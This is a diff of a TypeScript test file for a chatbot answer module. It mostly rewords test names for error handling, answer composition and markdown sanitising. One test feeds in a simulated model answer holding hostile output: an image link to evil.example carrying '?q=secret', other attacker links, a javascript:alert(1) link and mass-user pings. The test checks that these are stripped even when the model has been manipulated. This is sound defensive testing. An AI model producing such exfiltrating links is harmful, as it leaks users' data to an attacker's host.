@@ -50,7 +50,7 @@ async function ask(behaviour: Behaviour, timeoutMs?: number) {
 }
 
 describe('a model that answers', () => {
-  test('B42 is told the rules, the personality and the passages; what people wrote is one JSON text, whatever is in it', async () => {
+  test('B42 gets the rules, the personality and the passages; users’ texts are one JSON text, whatever they contain', async () => {
     const { server, answer } = await ask(completion('Install **5.2.2** [1].'));
     expect(await answer()).toEqual({ text: 'Install **5.2.2**.', sources: [ASKED.passages[0]] });
     const [call] = server.calls;
@@ -72,14 +72,14 @@ describe('a model that answers', () => {
     });
   });
 
-  test('B42 that does not know says nothing', async () => {
+  test('B42 that does not know the answer says nothing', async () => {
     for (const said of ['NO_ANSWER', ' \n', 'I am sorry. NO_ANSWER']) {
       const { answer } = await ask(completion(said));
       expect(await answer()).toBeUndefined();
     }
   });
 
-  test('B42 pings nobody, shows no picture and bears no address but those of the passages, whatever it was talked into', async () => {
+  test('B42 pings nobody, shows no picture and has no links except those of the passages, whatever the prompt', async () => {
     const { answer } = await ask(
       completion(
         'Ask [@All](user:usr_1) or <user:usr_1>, ![x](https://evil.example/?q=secret), see [here](https://evil.example) or https://evil.example/a, [this](javascript:alert(1)), <b>bold</b> and https://software.example/vpn. [r]\n\n[r]: user:usr_1',
@@ -92,20 +92,24 @@ describe('a model that answers', () => {
   });
 
   test.each<[string, Behaviour, object]>([
-    ['401: a person has to change something', answers(401), { kind: 'unauthorized' }],
-    ['400: this question is never taken', answers(400), { kind: 'invalid_input' }],
-    ['429: later, as it says', answers(429, { 'retry-after': '7' }), { kind: 'unavailable', afterMs: 7_000 }],
-    ['500: later', answers(500), { kind: 'unavailable' }],
-    ['nothing at all: later', () => undefined, { kind: 'unavailable' }],
-    ['garbage: later', (response) => response.writeHead(200).end('<html>'), { kind: 'unavailable' }],
+    ['401: an admin has to change something', answers(401), { kind: 'unauthorized' }],
+    ['400: this question is never accepted', answers(400), { kind: 'invalid_input' }],
     [
-      'a choice of nothing: later',
+      '429: retry after the given time',
+      answers(429, { 'retry-after': '7' }),
+      { kind: 'unavailable', afterMs: 7_000 },
+    ],
+    ['500: retry', answers(500), { kind: 'unavailable' }],
+    ['no response: retry', () => undefined, { kind: 'unavailable' }],
+    ['garbage: retry', (response) => response.writeHead(200).end('<html>'), { kind: 'unavailable' }],
+    [
+      'an empty choice: retry',
       (response) => response.writeHead(200).end('{"choices":[]}'),
       { kind: 'unavailable' },
     ],
-    ['far too much: never', completion('x'.repeat(10_000)), { kind: 'invalid_input' }],
+    ['a far too long answer: never retry', completion('x'.repeat(10_000)), { kind: 'invalid_input' }],
     [
-      'an endless body: never',
+      'an endless body: never retry',
       (response) => response.writeHead(200).end(Buffer.alloc(5 * 1024 * 1024, 32)),
       { kind: 'invalid_input' },
     ],
@@ -115,7 +119,7 @@ describe('a model that answers', () => {
   });
 });
 
-test('B42 an answer bears greeting, text, sources, the way to a person and branding, each where there is one', () => {
+test('B42 an answer has a greeting, text, sources, a way to reach a person and branding, each if there is one', () => {
   const given = { text: 'Install it.', sources: ASKED.passages };
   expect(compose(ASKED, given)).toBe(
     [
@@ -130,11 +134,11 @@ test('B42 an answer bears greeting, text, sources, the way to a person and brand
   expect(compose(bare, { text: 'Yes.', sources: [] })).toBe('Yes.');
 });
 
-test('B42 what is quoted keeps its style and its own links, and mentions nobody', () => {
+test('B42 a quoted text keeps its style and links, and mentions nobody', () => {
   expect(
     sanitizeMarkdown('**Hi** [@Ada](user:usr_1), see [it](https://a.example).\n\n- one\n- `two`', () => true),
   ).toBe('**Hi** @Ada, see [it](https://a.example).\n\n- one\n- `two`');
-  // Too many marks, or too deep, to be read in time: the text as it is.
+  // With too many or too deeply nested marks to parse in time, the text stays as it is.
   expect(sanitizeMarkdown(`${'*a '.repeat(500)}[@Ada](user:usr_1)`, () => true)).not.toMatch(
     /(?<!\\)\[@Ada\]\(user/,
   );
